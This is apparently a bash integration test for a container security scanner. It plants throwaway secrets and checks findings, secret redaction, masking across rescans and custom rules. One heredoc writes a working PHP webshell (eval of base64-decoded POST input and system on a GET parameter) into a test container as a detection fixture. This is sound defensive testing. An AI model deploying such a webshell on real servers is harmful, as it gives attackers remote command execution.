# What lies where nobody looks, found on the console: an image with a secret that its last layer removed, a running
# container with a key in its environment, an old kubeconfig on the host, and a webshell dropped into a running
# container. Masked, a secret stays masked after a rescan. A rule file that is added on the console is used by the
# sensor, and a disabled rule is not.
. "$(dirname "$0")/lib.sh"
cd "$scratch"
. "$here/podman_settings.sh"
name=weir-content-$$
home=/srv/$name
url=https://localhost:8751
client() { python3 "$here/console_client.py" "$url" "$scratch/console/tls/ca.pem" "$scratch/state" "$@"; }
cleanup() {
  kill $(jobs -p) 2>/dev/null || true
  podman rm -f -t 0 "$name" >/dev/null 2>&1 || true
  podman rmi -f "localhost/$name:base" "localhost/$name:1" >/dev/null 2>&1 || true
  rm -rf --one-file-system "$home"
}
trap cleanup EXIT
random() { head -c 200 /dev/urandom | base64 -w0 | tr -dc 'A-Za-z0-9' | head -c "$1"; }

# The secrets, made here: none of them ever opened anything.
openssl genrsa -out deploy.key 2048 2>/dev/null
openssl genrsa -out client.key 2048 2>/dev/null
stripe=sk_live_$(random 24)
ours=weirtest_$(random 32)

mkdir -p root/bin root/etc root/srv/www
cp /bin/busybox root/bin/busybox
for applet in sh rm httpd; do ln -s busybox root/bin/$applet; done
printf 'ID=alpine\nVERSION_ID=3.18.4\n' >root/etc/os-release
tar -C root -cf root.tar .
podman import -q root.tar "localhost/$name:base" >/dev/null
cat >Containerfile <<D
FROM localhost/$name:base
COPY deploy.key /srv/app/deploy.key
RUN rm /srv/app/deploy.key
D
podman build -q -t "localhost/$name:1" . >/dev/null
podman run -d --name "$name" -e "PAYMENTS_KEY=$stripe" "localhost/$name:base" /bin/busybox httpd -f -p 127.0.0.1:8976 >id
podman exec -i "$name" /bin/sh -c 'cat > /srv/www/up.php' <<'P'
<?php if (isset($_POST['c'])) { @eval(base64_decode($_POST['c'])); system($_GET['cmd']); } ?>
P
mkdir -p "$home/.kube"
cat >"$home/.kube/config" <<K
apiVersion: v1
kind: Config
clusters: [{name: old, cluster: {server: "https://10.0.0.1:6443"}}]
users:
- name: admin
  user:
    client-certificate-data: $(echo none | base64 -w0)
    client-key-data: $(base64 -w0 client.key)
contexts: [{name: old, context: {cluster: old, user: admin}}]
current-context: old
K
echo "token = $ours" >"$home/ours.txt"

"$WEIR" console --offline --data-dir "$scratch/console" --listen 127.0.0.1:8751 >console.log 2>&1 &
wait_for 20 grep -q 'one-time password: ' console.log
client setup "$(sed -n 's/.*one-time password: //p' console.log)"
# Of this machine only what the test put there: everything else is someone else's.
not_ours=()
for folder in usr var work root home opt tmp boot lib etc; do not_ours+=(--exclude "$folder/**"); done
"$WEIR" sensor --console "$url" --token "$(client token 1)" --data-dir "$scratch/sensor" "${not_ours[@]}" >sensor.log 2>&1 &

content() { client all "/api/v1/content-findings?$1"; }
# found QUERY JQ-CONDITION: some open finding is so.
found() { content "$1" | jq -e -s "any(.[]; $2)"; }
see() {
  wait_for 240 found "$2" "$3"
  echo "found: $1: $(content "$2" | jq -s -c "first(.[] | select($3)) | {rule, severity, score, masked, asset_name, path: .place.path}")"
}
see 'a key in an image that its last layer removed' 'kind=secret&origin=removed-file' \
  ".asset_kind == \"image\" and (.asset_name | contains(\"$name\")) and (.place.path | endswith(\"srv/app/deploy.key\")) and .place.removed_in != \"\""
see 'a key in the environment of a container' 'kind=secret&origin=environment' \
  ".asset_kind == \"container\" and .asset_name == \"$name\" and .place.pid != null"
see 'an old kubeconfig on the host' 'kind=secret&origin=file' \
  ".asset_kind == \"host\" and .place.path == \"${home#/}/.kube/config\""
see 'a webshell in a running container' 'kind=malware' \
  ".asset_kind == \"container\" and .asset_name == \"$name\" and .place.path == \"srv/www/up.php\" and .place.added"

# No secret itself has come to the console, whatever was sent: not in its answers, not in its files.
content '' >all.json
client GET '/api/v1/export/content-findings?format=sarif' >all.sarif
for secret in "$stripe" "$(sed -n 3p deploy.key)" "$(sed -n 3p client.key)"; do
  ! grep -rqF -- "$secret" all.json all.sarif console sensor console.log sensor.log || fail "a secret was kept: $(grep -rlF -- "$secret" all.json all.sarif console sensor console.log sensor.log)"
done

# A mask survives a rescan, also of a secret that has moved.
id() { content "$1" | jq -r -s "first(.[] | select($2)) | .id"; }
kube=".asset_kind == \"host\" and (.place.path | contains(\"$name\")) and (.place.path | contains(\"config\"))"
masked=$(id 'kind=secret' "$kube")
client POST /api/v1/masks "{\"scope\":\"everywhere\",\"content_finding\":\"$masked\",\"reason\":\"the cluster is gone\"}" >/dev/null
mv "$home/.kube/config" "$home/.kube/config.old"
host=$(client all '/api/v1/assets?kind=host' | jq -r .id)
scans() { client GET "/api/v1/assets/$host/scans?limit=100" | jq -r '[.items[] | select(.state == "done")] | length'; }
before=$(scans)
client POST /api/v1/scans "{\"asset_ids\":[\"$host\"]}" >/dev/null
again() { [ "$(scans)" -gt "$before" ]; }
wait_for 180 again
[ "$(client GET "/api/v1/content-findings/$masked" | jq -r .status)" = masked ] || fail "the mask did not survive the rescan"
echo "mask survived a rescan: $(client GET "/api/v1/content-findings/$masked" | jq -c '{status, path: .place.path}')"

# People's own rules reach the sensor, which looks again with them.
text=$(printf '[[rules]]\nid = "weir-test-token"\nregex = "weirtest_[A-Za-z0-9]{32}"\nkeywords = ["weirtest_"]\n')
client POST /api/v1/rule-files "$(jq -n --arg text "$text" '{kind: "secret", name: "ours.toml", text: $text}')" >/dev/null
see 'with a rule that was just added' 'rule=weir-test-token' ".place.path == \"${home#/}/ours.txt\""
client POST /api/v1/content-rules/secret/weir-test-token/disable '{"reason":"a test"}' >/dev/null
! found 'rule=weir-test-token' true >/dev/null || fail "a finding of a disabled rule is open"
echo "ok"
